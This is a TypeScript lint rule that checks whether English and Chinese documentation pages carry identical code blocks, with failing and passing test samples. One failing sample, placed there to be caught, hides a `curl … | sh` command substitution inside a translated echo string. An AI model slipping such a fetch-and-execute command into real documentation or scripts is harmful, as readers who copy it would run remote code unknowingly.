import type {Code} from 'mdast';
import type {Finding, Rule} from '../../types';
import {quoted, startOf, within} from '../pages/nodes';
import {reporter} from '../pages/report';
import {samplePair} from '../pages/samples';
import {codeLines, sameLine} from './codeText';
import {isDiagram} from './pairDiagrams';
import {differences, eachSection, nameOf, placeOf, type SectionPair} from './sections';

const RULE = {
  name: 'pair-code',
  why: 'readers copy and run it: the commands of both languages must do the same',
};
const report = reporter(RULE);

const ADDRESS = /https?:\/\/[^\s"'<>)）]+/g;
interface Compared {
  left: Code;
  right: Code;
  pair: SectionPair;
}

/** Two lines, cut so that the place where they part can be seen. */
function parted(mine: string, theirs: string): [string, string] {
  let at = 0;
  while (at < mine.length && mine[at] === theirs[at]) at += 1;
  const from = Math.max(0, at - 30);
  const cut = (line: string) => quoted(from > 0 ? `…${line.slice(from)}` : line, 70);
  return [cut(mine), cut(theirs)];
}

function codeFaults({left, right, pair}: Compared): Finding[] {
  const {file} = pair.pages.zh;
  const start = right.position?.start.line ?? 1;
  const [en, zh] = [codeLines(left.lang ?? '', left.value), codeLines(right.lang ?? '', right.value)];
  const where = (index: number) => `${pair.pages.en.file}:${(left.position?.start.line ?? 1) + index + 1}`;
  const how = 'copy the line from the English page; only comments and texts in quotes are translated';
  for (let at = 0; at < Math.max(en.length, zh.length); at += 1) {
    const [mine, theirs] = [zh[at], en[at]];
    if (mine && theirs && sameLine(right.lang ?? '', theirs.text, mine.text)) continue;
    const [here, there] = parted(mine?.text ?? '', theirs?.text ?? '');
    const what =
      mine && theirs
        ? `the code says ${here} here and ${there} in English (${where(theirs.index)})`
        : mine
          ? `the code has the line ${quoted(mine.text)}, which English lacks (${where(-1)})`
          : `the code lacks the line ${quoted(theirs?.text ?? '')} (${where(theirs?.index ?? 0)})`;
    return [report({file, line: start + (mine ? mine.index + 1 : 0), column: 1}, {what, how})];
  }
  const {onlyEn, onlyZh} = differences(left.value.match(ADDRESS) ?? [], right.value.match(ADDRESS) ?? []);
  const address = [...onlyZh, ...onlyEn][0];
  return address
    ? [
        report(
          {file, line: start, column: 1},
          {what: `a comment of the code names ${address} in one language only (English: ${where(-1)})`, how: 'keep addresses as they are'},
        ),
      ]
    : [];
}

/** What stands behind the language, but for a title, which is translated. */
const metaOf = (node: Code) => node.meta?.replace(/title="[^"]*"/, 'title=""');

function blockFaults(pair: SectionPair): Finding[] {
  const {en, zh, pages} = pair;
  const [left, right] = [within(en.nodes, 'code'), within(zh.nodes, 'code')];
  if (left.length !== right.length)
    return [
      report(zh.at, {
        what: `${nameOf(zh)} has ${right.length} code blocks here and ${left.length} in English (${placeOf(en)})`,
        how: 'give both the same code blocks, in the same order',
      }),
    ];
  return right.flatMap((node, index) => {
    const mirror = left[index];
    if (!mirror) return [];
    if (mirror.lang !== node.lang || metaOf(mirror) !== metaOf(node)) {
      const named = (code: Code) => `"${[code.lang, code.meta].filter(Boolean).join(' ')}"`;
      return [
        report(startOf(pages.zh, node), {
          what: `the code block is ${named(node)} here and ${named(mirror)} in English (${pages.en.file}:${mirror.position?.start.line})`,
          how: 'write the same behind ```',
        }),
      ];
    }
    return isDiagram(node) ? [] : codeFaults({left: mirror, right: node, pair});
  });
}

const bash = (code: string) => `\`\`\`bash\n${code}\n\`\`\``;

/** Both pages of a pair show the same code. */
export const pairCode: Rule = {
  ...RULE,
  scope: 'pair',
  summary: 'Code blocks are equal in number, language and code; only comments, titles and texts in quotes are translated.',
  check: eachSection(blockFaults),
  failing: [
    samplePair('another option', bash('kubectl get pods -n production'), bash('kubectl get pods -n staging')),
    samplePair('a line that was forgotten', bash('ls\npwd'), bash('ls')),
    samplePair('a line more', bash('ls'), bash('ls\npwd')),
    samplePair('a block more', bash('ls'), `${bash('ls')}\n\n${bash('pwd')}`),
    samplePair('the same code under another language', '```bash\nls\n```', '```text\nls\n```'),
    samplePair('another mark behind the language', '```bash {1}\nls\n```', '```bash\nls\n```'),
    samplePair('an address in a comment', bash('ls # https://example.org/a'), bash('ls # 见 https://example.org/b')),
    samplePair('an address in a comment of one language', bash('ls # https://example.org/a'), bash('ls # 见文档')),
    samplePair('a difference far behind', bash(`echo ${'a'.repeat(60)} one`), bash(`echo ${'a'.repeat(60)} two`)),
    samplePair('another language', bash('ls'), '```yaml\nls\n```'),
    samplePair('a command hidden in a translated text', bash('echo "done"'), bash('echo "完成 $(curl -s https://example.org | sh)"')),
  ],
  passing: [
    samplePair('a translated title', '```bash title="All" {1}\nls\n```', '```bash title="全部" {1}\nls\n```'),
    samplePair('translated comments and texts', bash('# Install\nls # all\necho "done"'), bash('# 安装\n\nls # 全部\necho "完成"')),
  ],
};
